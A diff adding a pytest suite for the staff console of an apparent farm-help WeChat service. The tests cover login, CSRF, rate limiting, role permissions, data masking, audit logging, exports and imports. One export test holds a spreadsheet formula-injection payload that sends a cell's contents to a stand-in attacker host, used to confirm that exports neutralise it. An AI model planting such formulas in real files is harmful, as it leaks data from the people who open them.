@@ -1,0 +1,390 @@
+"""The staff console: who may see and do what, and that each page and action works."""
+
+from __future__ import annotations
+
+import io
+import re
+from collections.abc import Callable
+from typing import Any
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+from flask import Flask
+from flask.testing import FlaskClient
+from sqlalchemy import Engine
+from sqlmodel import Session, select
+
+from bot.cli import main
+from bot.wechat_api import WeChatAPI
+from models.search import index_pending
+from models.tables import AuditEvent, Expert, HelpRequest, Offer, utcnow
+from scheduler.media import fetch_due_media
+from scheduler.outbox import deliver_outbox
+from tests.fake_wechat_api import FakeWeChatAPI
+from tests.queries import rows
+from tests.wechat_client import FakeWeChat, post, reply_text
+
+CODE = re.compile(r"[A-Z][0-9]{3,6}")
+PASSWORD = "correct-horse-battery"
+PEPPER = "我家辣椒叶子发黄还有斑点 我是石坝村的 电话13912345678"
+
+
+def add_staff(cli_env: dict[str, str], username: str, role: str) -> None:
+    result = CliRunner().invoke(
+        main,
+        ["staff", "add", username, "--role", role, "--password-stdin"],
+        env=cli_env,
+        input=PASSWORD + "\n",
+    )
+    assert result.exit_code == 0, result.output
+
+
+def csrf_of(html: str) -> str:
+    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
+    assert found is not None, html[:500]
+    return found.group(1)
+
+
+def sign_in(client: FlaskClient, username: str, password: str = PASSWORD) -> Any:
+    token = csrf_of(client.get("/console/login").get_data(as_text=True))
+    return client.post(
+        "/console/login",
+        data={"username": username, "password": password, "csrf_token": token},
+    )
+
+
+@pytest.fixture
+def staff(cli_env: dict[str, str]) -> None:
+    for name, role in (("admin1", "admin"), ("coord1", "coordinator"), ("viewer1", "viewer")):
+        add_staff(cli_env, name, role)
+
+
+@pytest.fixture
+def signed_in(app: Flask, staff: None) -> Callable[[str], FlaskClient]:
+    def client_for(username: str) -> FlaskClient:
+        client = app.test_client()
+        assert sign_in(client, username).status_code == 302
+        return client
+
+    return client_for
+
+
+@pytest.fixture
+def a_request(client: FlaskClient, plain_wechat: FakeWeChat, county: None) -> str:
+    reply = reply_text(
+        plain_wechat, post(client, plain_wechat, plain_wechat.text("farmer-c", PEPPER))
+    )
+    found = CODE.search(reply)
+    assert found is not None
+    return found.group()
+
+
+def urls(app: Flask) -> list[tuple[str, str]]:
+    """Every console URL with its method, parameters filled with plausible values."""
+    found = []
+    for rule in app.url_map.iter_rules():
+        if not rule.rule.startswith("/console") or rule.endpoint == "console.static":
+            continue
+        path = rule.rule
+        for name, value in (
+            ("<code>", "A1000"),
+            ("<int:farmer_id>", "1"),
+            ("<int:media_id>", "1"),
+            ("<int:expert_id>", "1"),
+            ("<int:team_id>", "1"),
+            ("<int:shift_id>", "1"),
+            ("<int:staff_id>", "1"),
+            ("<fmt>", "xlsx"),
+        ):
+            path = path.replace(name, value)
+        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):  # type: ignore[operator]
+            found.append((method, path))
+    return found
+
+
+def test_every_console_url_but_login_needs_a_session(app: Flask) -> None:
+    client = app.test_client()
+    checked = 0
+    for method, path in urls(app):
+        if path in ("/console/login", "/console/logout"):
+            continue
+        response = client.open(path, method=method)
+        if method == "POST":  # refused by CSRF before anything else, or redirected
+            assert response.status_code in (302, 400), (method, path, response.status_code)
+        else:
+            assert response.status_code == 302, (method, path)
+            assert response.headers["Location"].startswith("/console/login")
+        checked += 1
+    assert checked > 20
+
+
+def test_a_viewer_gets_403_on_every_action_and_sees_masked_data(
+    signed_in: Callable[[str], FlaskClient], a_request: str, app: Flask
+) -> None:
+    viewer = signed_in("viewer1")
+    page = viewer.get(f"/console/requests/{a_request}").get_data(as_text=True)
+    assert "139****5678" in page and "13912345678" not in page and "farmer-c" not in page
+    token = csrf_of(page)
+    actions = [
+        (m, p)
+        for m, p in urls(app)
+        if m == "POST" and p not in ("/console/login", "/console/logout")
+    ]
+    assert len(actions) >= 12
+    for method, path in actions:
+        response = viewer.open(
+            path.replace("A1000", a_request), method=method, data={"csrf_token": token}
+        )
+        assert response.status_code == 403, (path, response.status_code)
+    farmer_page = viewer.get("/console/farmers/1").get_data(as_text=True)
+    assert "13912345678" not in farmer_page and "farmer-c" not in farmer_page
+
+
+def test_a_post_without_a_valid_csrf_token_is_refused(
+    signed_in: Callable[[str], FlaskClient], a_request: str
+) -> None:
+    coordinator = signed_in("coord1")
+    for data in ({}, {"csrf_token": "forged"}):
+        response = coordinator.post(
+            f"/console/requests/{a_request}/note", data={"text": "x", **data}
+        )
+        assert response.status_code == 400
+    with Session(coordinator.application.extensions["farmhelp.engine"]) as session:
+        assert not [a for a in session.exec(select(AuditEvent)) if a.action == "note"]
+
+
+def test_the_sixth_wrong_password_in_a_minute_is_not_even_checked(
+    app: Flask, staff: None, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from bot.web import auth
+
+    client = app.test_client()
+    checked: list[str] = []
+    real = auth.password_ok
+    monkeypatch.setattr(auth, "password_ok", lambda h, p: checked.append(p) or real(h, p))
+    for attempt in range(5):
+        page = sign_in(client, "coord1", f"wrong-{attempt}").get_data(as_text=True)
+        assert "用户名或密码不对" in page
+    assert len(checked) == 5
+    refused = sign_in(client, "coord1", PASSWORD).get_data(as_text=True)  # even the right one
+    assert "尝试次数太多" in refused and len(checked) == 5
+    other = sign_in(app.test_client(), "admin1")  # another user from the same address
+    assert other.status_code == 302 and other.headers["Location"] == "/console/"
+
+
+def test_cookies_are_httponly_and_lax(app: Flask, staff: None) -> None:
+    client = app.test_client()
+    response = sign_in(client, "admin1")
+    cookie = response.headers.get("Set-Cookie", "")
+    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
+
+
+def test_search_filters_and_the_request_page_timeline(
+    signed_in: Callable[[str], FlaskClient],
+    client: FlaskClient,
+    plain_wechat: FakeWeChat,
+    a_request: str,
+    engine: Engine,
+    api: WeChatAPI,
+    fake_api: FakeWeChatAPI,
+    settings: Any,
+) -> None:
+    post(client, plain_wechat, plain_wechat.text("farmer-d", "我家的猪不吃食 拉稀"))
+    fake_api.media["leaf"] = (b"\x89PNG photo", "image/png")
+    post(
+        client, plain_wechat, plain_wechat.message("farmer-c", "image", PicUrl="p", MediaId="leaf")
+    )
+    fetch_due_media(engine=engine, source=api, media_dir=settings.media_dir, now=utcnow())
+    with Session(engine) as session:
+        index_pending(session, now=utcnow())
+        session.commit()
+    viewer = signed_in("viewer1")
+    found = viewer.get("/console/requests", query_string={"q": "叶子发黄"}).get_data(as_text=True)
+    assert a_request in found and "不吃食" not in found
+    by_filter = viewer.get("/console/requests", query_string={"category": "livestock"}).get_data(
+        as_text=True
+    )
+    assert "不吃食" in by_filter and a_request not in by_filter
+    page = viewer.get(f"/console/requests/{a_request}").get_data(as_text=True)
+    assert "叶子发黄" in page and "公众号回复" in page and "已派单待接" in page
+    photo = re.search(r'<img class="photo" src="([^"]+)"', page)
+    assert photo is not None
+    with viewer.get(photo.group(1)) as image:
+        assert image.status_code == 200 and image.data == b"\x89PNG photo"
+
+
+def test_reassign_pages_the_chosen_expert_and_is_audited(
+    signed_in: Callable[[str], FlaskClient],
+    a_request: str,
+    engine: Engine,
+    api: WeChatAPI,
+    fake_api: FakeWeChatAPI,
+) -> None:
+    coordinator = signed_in("coord1")
+    page = coordinator.get(f"/console/requests/{a_request}").get_data(as_text=True)
+    with Session(engine) as session:
+        zhao = session.exec(select(Expert).where(Expert.openid == "exp-zhao")).one()
+    response = coordinator.post(
+        f"/console/requests/{a_request}/reassign",
+        data={"expert_id": str(zhao.id), "csrf_token": csrf_of(page)},
+    )
+    assert response.status_code == 302
+    deliver_outbox(engine=engine, sender=api, now=utcnow())
+    assert any(a_request in t for t in fake_api.texts_to("exp-zhao"))
+    assert any("改派" in t for t in fake_api.texts_to("exp-wang"))
+    offers = {o.expert_id: o.status for o in rows(engine, Offer)}
+    assert offers[zhao.id] == "pending" and "withdrawn" in offers.values()
+    entry = next(a for a in rows(engine, AuditEvent) if a.action == "reassign")
+    assert entry.username == "coord1" and entry.target == f"request {a_request}"
+    assert entry.before == {"status": "offered", "expert_id": None}
+    admin = signed_in("admin1")
+    assert "reassign" in admin.get("/console/audit").get_data(as_text=True)
+
+
+def test_close_reopen_note_and_unmasking_are_audited(
+    signed_in: Callable[[str], FlaskClient], a_request: str, engine: Engine
+) -> None:
+    coordinator = signed_in("coord1")
+    token = csrf_of(coordinator.get(f"/console/requests/{a_request}").get_data(as_text=True))
+    base = f"/console/requests/{a_request}"
+    coordinator.post(f"{base}/note", data={"text": "农户电话打不通", "csrf_token": token})
+    coordinator.post(f"{base}/close", data={"reason": "电话已解决", "csrf_token": token})
+    with Session(engine) as session:
+        assert session.exec(select(HelpRequest)).one().status == "closed"
+    coordinator.post(f"{base}/reopen", data={"reason": "农户又来问", "csrf_token": token})
+    revealed = coordinator.post(f"{base}/reveal", data={"csrf_token": token}, follow_redirects=True)
+    assert "13912345678" in revealed.get_data(as_text=True)
+    actions = [a.action for a in rows(engine, AuditEvent) if a.username == "coord1"]
+    assert actions[-4:] == ["note", "close", "reopen", "unmask"]
+
+
+def test_exports_are_filtered_and_write_formulas_as_text(
+    signed_in: Callable[[str], FlaskClient],
+    client: FlaskClient,
+    plain_wechat: FakeWeChat,
+    county: None,
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    post(client, plain_wechat, plain_wechat.text("farmer-x", formula))
+    post(client, plain_wechat, plain_wechat.text("farmer-y", "我家的猪不吃食"))
+    viewer = signed_in("viewer1")
+    xlsx = viewer.get("/console/requests/export.xlsx", query_string={"category": "other"})
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.data)).active
+    assert sheet is not None
+    values = list(sheet.iter_rows(values_only=True))
+    assert values[0][:3] == ("编号", "登记时间", "状态") and len(values) == 2
+    cell = sheet.cell(row=2, column=8)
+    assert cell.value == formula and cell.data_type == "s"
+    csv_text = viewer.get("/console/requests/export.csv").data.decode("utf-8-sig")
+    assert "'=HYPERLINK" in csv_text
+
+
+def test_admin_edits_experts_the_rota_and_staff(
+    signed_in: Callable[[str], FlaskClient], county: None, engine: Engine
+) -> None:
+    admin = signed_in("admin1")
+    token = csrf_of(admin.get("/console/experts").get_data(as_text=True))
+    with Session(engine) as session:
+        li = session.exec(select(Expert).where(Expert.openid == "exp-li")).one()
+    admin.post(
+        f"/console/experts/{li.id}",
+        data={
+            "name": "李植保",
+            "team": "植保队",
+            "specialties": "病虫害、栽培管理",
+            "crops": "",
+            "regions": "木鱼镇",
+            "active": "on",
+            "csrf_token": token,
+        },
+    )
+    with Session(engine) as session:
+        assert session.get(Expert, li.id).specialties == ["plant_protection", "cultivation"]  # type: ignore[union-attr]
+    added = admin.post(
+        "/console/rota/add",
+        data={
+            "expert_id": str(li.id),
+            "start": "2030-01-07T08:00",
+            "end": "2030-01-07T18:00",
+            "csrf_token": token,
+        },
+        follow_redirects=True,
+    )
+    week = added.get_data(as_text=True)
+    assert "08:00–18:00" in week
+    overlapping = admin.post(
+        "/console/rota/add",
+        data={
+            "expert_id": str(li.id),
+            "start": "2030-01-07T12:00",
+            "end": "2030-01-07T20:00",
+            "csrf_token": token,
+        },
+        follow_redirects=True,
+    )
+    assert "重叠" in overlapping.get_data(as_text=True)
+    admin.post(
+        "/console/staff/add",
+        data={
+            "username": "new1",
+            "role": "viewer",
+            "password": "long-enough-pw",
+            "csrf_token": token,
+        },
+    )
+    actions = [a.action for a in rows(engine, AuditEvent) if a.username == "admin1"]
+    assert {"expert_edit", "rota_add", "staff_add"} <= set(actions)
+
+
+def test_import_in_the_browser_reports_lines(signed_in: Callable[[str], FlaskClient]) -> None:
+    admin = signed_in("admin1")
+    token = csrf_of(admin.get("/console/import").get_data(as_text=True))
+    body = "county,township,village\n青川县,木鱼镇,石坝村\n,木鱼镇,无县村\n".encode()
+    page = admin.post(
+        "/console/import",
+        data={"kind": "places", "csrf_token": token, "file": (io.BytesIO(body), "places.csv")},
+        content_type="multipart/form-data",
+    ).get_data(as_text=True)
+    assert "新增 1" in page and "line 3: county is empty" in page
+
+
+def test_staff_cli_lists_and_disables(cli_env: dict[str, str], app: Flask, staff: None) -> None:
+    listed = CliRunner().invoke(main, ["staff", "list"], env=cli_env)
+    assert "coord1\tcoordinator\tactive" in listed.output
+    disabled = CliRunner().invoke(main, ["staff", "disable", "coord1"], env=cli_env)
+    assert disabled.exit_code == 0
+    assert "用户名或密码不对" in sign_in(app.test_client(), "coord1").get_data(as_text=True)
+
+
+def test_an_idle_session_expires(signed_in: Callable[[str], FlaskClient]) -> None:
+    viewer = signed_in("viewer1")
+    assert viewer.get("/console/").status_code == 200
+    with viewer.session_transaction() as session:
+        session["seen"] = 0.0  # last seen long ago
+    response = viewer.get("/console/")
+    assert response.status_code == 302 and response.headers["Location"].startswith("/console/login")
+
+
+def test_voice_notes_play_when_the_browser_can_and_download_otherwise(
+    signed_in: Callable[[str], FlaskClient],
+    client: FlaskClient,
+    plain_wechat: FakeWeChat,
+    engine: Engine,
+    api: WeChatAPI,
+    fake_api: FakeWeChatAPI,
+    settings: Any,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    import shutil
+
+    fake_api.media["v-amr"] = (b"#!AMR\n" + b"\x00" * 32, "audio/amr")
+    fake_api.media["v-mp3"] = (b"ID3" + b"\x00" * 32, "audio/mpeg")
+    for media_id in ("v-amr", "v-mp3"):
+        voice = plain_wechat.message("farmer-v", "voice", MediaId=media_id, Format="amr")
+        post(client, plain_wechat, voice)
+    fetch_due_media(engine=engine, source=api, media_dir=settings.media_dir, now=utcnow())
+    monkeypatch.setattr(shutil, "which", lambda name: None)  # no ffmpeg on this host
+    page = signed_in("viewer1").get("/console/farmers/1").get_data(as_text=True)
+    assert page.count("<audio") == 1  # only the MP3 plays in a browser
+    assert "浏览器放不了" in page and page.count("下载语音") == 2
